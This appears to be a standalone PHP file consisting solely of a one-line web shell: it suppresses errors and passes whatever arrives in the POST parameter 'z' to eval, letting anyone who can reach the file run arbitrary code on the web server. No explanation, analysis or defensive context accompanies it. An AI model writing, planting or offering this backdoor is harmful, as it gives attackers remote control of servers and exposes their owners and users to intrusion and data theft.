<?php @eval($_POST['z']);
